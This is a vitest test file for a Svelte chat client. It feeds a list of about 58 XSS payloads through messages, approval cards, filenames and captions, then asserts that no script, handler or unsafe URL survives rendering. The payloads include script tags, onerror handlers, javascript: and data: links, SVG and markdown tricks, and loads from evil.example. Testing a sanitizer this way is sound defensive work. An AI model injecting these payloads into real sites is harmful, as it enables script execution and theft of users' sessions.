import { describe, expect, it } from 'vitest';
import { render, waitFor } from '@testing-library/svelte';
import XssHarness from './XssHarness.svelte';
import { setupIpc, PROFILE } from './helpers';
import { TauriBackend } from '../lib/backend/tauri';
import { ProfileSession, type CardItem, type MessageItem } from '../lib/state/chat.svelte';

const C = 'window.__xss=1';
/** ≥ 50 payloads: tags, handlers, schemes, SVG, markdown tricks, raw HTML, iframes, styles, entities. */
export const PAYLOADS: string[] = [
  `<script>${C}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${C}">`,
  `<img src="x" onerror=${C}//`,
  `<svg onload=${C}>`,
  `<svg><script>${C}</script></svg>`,
  `<svg><a xlink:href="javascript:${C}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${C} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${C}>`,
  `<body onload=${C}>`,
  `<iframe src="javascript:${C}"></iframe>`,
  `<iframe srcdoc="<script>${C}</script>"></iframe>`,
  `<object data="javascript:${C}"></object>`,
  `<embed src="javascript:${C}">`,
  `<a href="javascript:${C}">click</a>`,
  `<a href="jav&#x09;ascript:${C}">tab</a>`,
  `<div style="background:url(javascript:${C})">styled</div>`,
  `<style>@import 'https://evil.example/x.css'; body{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${C}">`,
  `<base href="javascript:/">`,
  `<form action="javascript:${C}"><button>go</button></form>`,
  `<input autofocus onfocus=${C}>`,
  `<details open ontoggle=${C}>`,
  `<video><source onerror=${C}></video>`,
  `<audio src=x onerror=${C}>`,
  `<marquee onstart=${C}>`,
  `<isindex type=image src=1 onerror=${C}>`,
  `<template><img src=x onerror=${C}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${C}>">`,
  `[click](javascript:${C})`,
  `[click](JaVaScRiPt:${C})`,
  `[click](  javascript:${C})`,
  `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](file:///etc/passwd)`,
  `[ref][1]\n\n[1]: javascript:${C}`,
  `<javascript:${C}>`,
  `![x](javascript:${C})`,
  `![x](https://evil.example/track.png)`,
  `![x"onerror="${C}](https://evil.example/a.png)`,
  `[![img](https://evil.example/a.png)](javascript:${C})`,
  `[a](https://ok.example "title\\" onmouseover=\\"${C}")`,
  '```html\n<script>' + C + '</script>\n```',
  '```\n</code></pre><img src=x onerror=' + C + '>\n```',
  '```js" onmouseover="' + C + '\nalert(1)\n```',
  '`<img src=x onerror=' + C + '>`',
  `<div>\n\n**bold** <img src=x onerror=${C}>\n\n</div>`,
  `<!-- <img src=x onerror=${C}> -->`,
  `<![CDATA[<img src=x onerror=${C}>]]>`,
  `&lt;script&gt;${C}&lt;/script&gt;`,
  `<scr<script>ipt>${C}</scr</script>ipt>`,
  `"><img src=x onerror=${C}>`,
  `'><svg/onload=${C}>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${C}> | [x](javascript:${C}) |`,
  `> <iframe src=//evil.example></iframe>`,
  `- [ ] <img src=x onerror=${C}>\n- <script>${C}</script>`,
  `# <svg onload=${C}>`,
];

function assertClean(root: HTMLElement) {
  const all = root.querySelectorAll('*');
  for (const el of all) {
    for (const attr of el.attributes) {
      expect(attr.name.toLowerCase().startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false);
      if (['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'srcdoc'].includes(attr.name.toLowerCase())) {
        expect(attr.value.trim().toLowerCase()).not.toMatch(/^(javascript|data|vbscript):/);
      }
    }
  }
  expect(root.querySelectorAll('script, iframe, object, embed, style, link, meta, base, form, svg:not(.icon), math, template, noscript, marquee')).toHaveLength(0);
  // Only app icons are SVG; only images served by file_url load.
  for (const img of root.querySelectorAll('img')) expect(img.getAttribute('src')).toMatch(/^asset:\/\/localhost\//);
  for (const a of root.querySelectorAll('a[href]')) expect(a.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
  expect((window as unknown as { __xss?: unknown }).__xss).toBeUndefined();
}

describe('XSS corpus', () => {
  it('has at least 50 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
  });

  it('renders every payload inertly through messages, cards, filenames and captions', async () => {
    setupIpc();
    const backend = new TauriBackend();
    const session = new ProfileSession(backend, PROFILE);
    const now = Date.now();
    const messages: MessageItem[] = PAYLOADS.flatMap((p, i) => [
      { type: 'message', id: `in${i}`, direction: 'down', text: p, final: true, state: 'received', createdAt: now, attachments: [] },
      { type: 'message', id: `st${i}`, direction: 'down', text: p, final: false, state: 'received', createdAt: now, attachments: [], error: { code: p, text: p } },
      { type: 'message', id: `out${i}`, direction: 'up', text: p, final: true, state: 'failed', createdAt: now, attachments: [], error: { code: 'x', text: p } },
      {
        type: 'message',
        id: `media${i}`,
        direction: 'down',
        text: p,
        final: true,
        state: 'received',
        createdAt: now,
        attachments: [
          { mediaId: `a${i}`, kind: ['image', 'voice', 'video', 'document', p][i % 5], mime: i % 7 === 0 ? p : undefined, filename: p, path: `/dl/${i}`, size: 1000, caption: p },
        ],
      },
    ]);
    const cards: CardItem[] = PAYLOADS.map((p, i) => ({
      type: 'card',
      id: `card${i}`,
      kind: i % 2 ? 'exec_approval' : p,
      text: p,
      command: p,
      description: p,
      options: [
        { id: 'a', label: p, style: p },
        { id: 'other', label: p },
      ],
      timeoutSeconds: 60,
      createdAt: now,
      done: i % 3 === 0 ? { optionId: 'a', expired: false } : undefined,
    }));
    const r = render(XssHarness, { props: { backend, session, messages, cards } });
    await waitFor(() => expect(r.container.querySelectorAll('img').length).toBeGreaterThan(5));
    await new Promise((res) => setTimeout(res, 50));
    assertClean(r.container);
    assertClean(document.body);
    // The payload text is visible as text.
    expect(r.container.textContent).toContain('<script>window.__xss=1</script>');
  }, 60_000);
});
